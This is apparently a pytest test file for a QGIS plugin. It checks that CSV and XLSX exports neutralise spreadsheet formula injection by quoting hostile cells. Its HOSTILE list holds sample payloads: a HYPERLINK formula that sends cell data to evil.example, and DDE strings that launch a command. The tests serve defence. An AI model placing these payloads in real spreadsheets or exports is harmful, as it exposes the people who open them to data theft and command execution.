"""Spreadsheet formula injection (OWASP "CSV injection"): text cells from user data that start with =, +, -, @, tab or
CR are written with a leading single quote in CSV and XLSX tables; numbers stay numbers."""
import contextlib
import csv
import json
import os
import zipfile

import processing
import pytest
from osgeo import gdal, ogr, osr
from qgis.core import QgsProcessingException

from t2_monitor_plugin.core.tables import neutralise_cell, write_table
from t2_monitor_plugin.core.xlsx import write_workbook

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HARMLESS = ["Bosque Alto", "a=b", "Ñandú - norte", "", "-5", "+3.25", "-1e-3", ".5"]
FIELDS = [("zone", "str"), ("count", "int"), ("area_ha", "float")]


def test_neutralise_cell():
    for text in HOSTILE:
        assert neutralise_cell(text) == "'" + text
    for text in HARMLESS:
        assert neutralise_cell(text) == text
    for number in (-5, -2.5, 0, 3):
        assert neutralise_cell(number) == number  # a negative number is not text
    assert neutralise_cell(None) is None
    assert neutralise_cell("-") == "'-" and neutralise_cell("-inf") == "'-inf"


def _rows():
    values = HOSTILE + HARMLESS
    return [(text, -i, -1.5 * i) for i, text in enumerate(values)], values


def test_csv_cells_are_neutralised_numbers_kept(tmp_path):
    rows, values = _rows()
    path = write_table(str(tmp_path / "t.csv"), FIELDS, rows)
    with open(path, newline="", encoding="utf-8") as fh:
        read = list(csv.reader(fh))
    assert read[0] == ["zone", "count", "area_ha"]
    body = read[1:]
    assert [r[0] for r in body] == ["'" + t for t in HOSTILE] + HARMLESS
    # numbers are written as numbers: negative values keep their sign and no quote
    assert [int(r[1]) for r in body] == [-i for i in range(len(values))]
    assert [float(r[2]) for r in body] == pytest.approx([-1.5 * i for i in range(len(values))])
    assert not any(r[0].startswith(("=", "+", "-", "@", "\t", "\r")) for r in body if r[0] not in HARMLESS)


def test_xlsx_cells_are_neutralised_numbers_kept(tmp_path):
    rows, values = _rows()
    out = write_workbook(str(tmp_path / "w.xlsx"), [("zones", FIELDS, rows)], csv_path=str(tmp_path / "w.csv"))
    gdal.SetConfigOption("OGR_XLSX_HEADERS", "FORCE")
    try:
        ds = gdal.OpenEx(out["xlsx"], gdal.OF_VECTOR)
        layer = ds.GetLayer(0)
        got = [(f.GetField(0), f.GetField(1), f.GetField(2)) for f in layer]
        defn = layer.GetLayerDefn()
        assert defn.GetFieldDefn(1).GetType() in (ogr.OFTInteger, ogr.OFTInteger64)  # numbers stay numbers
        assert defn.GetFieldDefn(2).GetType() == ogr.OFTReal
    finally:
        gdal.SetConfigOption("OGR_XLSX_HEADERS", None)
        ds = None
    expected = ["'" + t for t in HOSTILE] + HARMLESS
    # XML normalises a carriage return in a cell to a line feed when read back
    assert [g[0] or "" for g in got] == [e.replace("\r", "\n") for e in expected]
    assert [g[1] for g in got] == [-i for i in range(len(values))]
    with zipfile.ZipFile(out["xlsx"]) as archive:
        sheet = "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets"))
    assert "<f>" not in sheet  # no formula cell at all
    with open(out["csv"], newline="", encoding="utf-8") as fh:
        assert [r[0] for r in list(csv.reader(fh))[1:]] == expected


def _sites(path, names):
    ds = ogr.GetDriverByName("GPKG").CreateDataSource(str(path))
    srs = osr.SpatialReference()
    srs.ImportFromEPSG(4326)
    srs.SetAxisMappingStrategy(osr.OAMS_TRADITIONAL_GIS_ORDER)
    lyr = ds.CreateLayer("sites", srs, ogr.wkbPolygon)
    lyr.CreateField(ogr.FieldDefn("site_name", ogr.OFTString))
    for i, name in enumerate(names):
        f = ogr.Feature(lyr.GetLayerDefn())
        f.SetField("site_name", name)
        x = -77.0 + 0.01 * i
        f.SetGeometry(ogr.CreateGeometryFromWkt(f"POLYGON(({x} -6,{x} -5.995,{x + 0.005} -5.995,{x} -6))"))
        lyr.CreateFeature(f)
    ds = None
    return f"{path}|layername=sites"


def test_exportferm_validation_csv_is_neutralised_payload_unchanged(t2_provider, tmp_path):
    names = HOSTILE[:4] + ["Bosque Alto"]
    params = {"INPUT": _sites(tmp_path / "s.gpkg", names), "SITE_NAME_FIELD": "site_name", "ADMIN0_VALUE": "PE",
              "START_YEAR_VALUE": "2015", "RESTORATION_TYPE_VALUE": "1", "TENURE_VALUE": "2",
              "ECOSYSTEMS_VALUE": "T1", "ACTIVITIES_VALUE": "4", "SITE_ID_VALUE": "S",
              "TITLE": "Proyecto", "INSTITUTION_ID": "INST-1", "STARTING_YEAR": 2015,
              "PROJECT_RESTORATION_TYPES": "1", "CONTACTS": "Ana <ana@example.org>",
              "ORGANIZATIONS": "ONG Bosques|Leading|NGO|PE", "COUNTRIES": "PE", "SKIP_INVALID": True,
              "OUTPUT": str(tmp_path / "payload.geojson"), "VALIDATION": str(tmp_path / "validation.csv")}
    with contextlib.suppress(QgsProcessingException):  # the validation table is written even when errors stop it
        processing.run("t2monitor:exportferm", params)
    with open(tmp_path / "validation.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    site_names = {r["site_name"] for r in rows if r["site_name"]}
    assert {"'" + n for n in HOSTILE[:4]} <= site_names and "Bosque Alto" in site_names
    assert not any(r[k].startswith(("=", "+", "@")) for r in rows for k in r if r[k])
    if os.path.exists(tmp_path / "payload.geojson"):  # the payload for FERM keeps the names exactly
        payload = json.loads((tmp_path / "payload.geojson").read_text(encoding="utf-8"))
        assert {f["properties"]["siteName"] for f in payload["features"]} <= set(names)
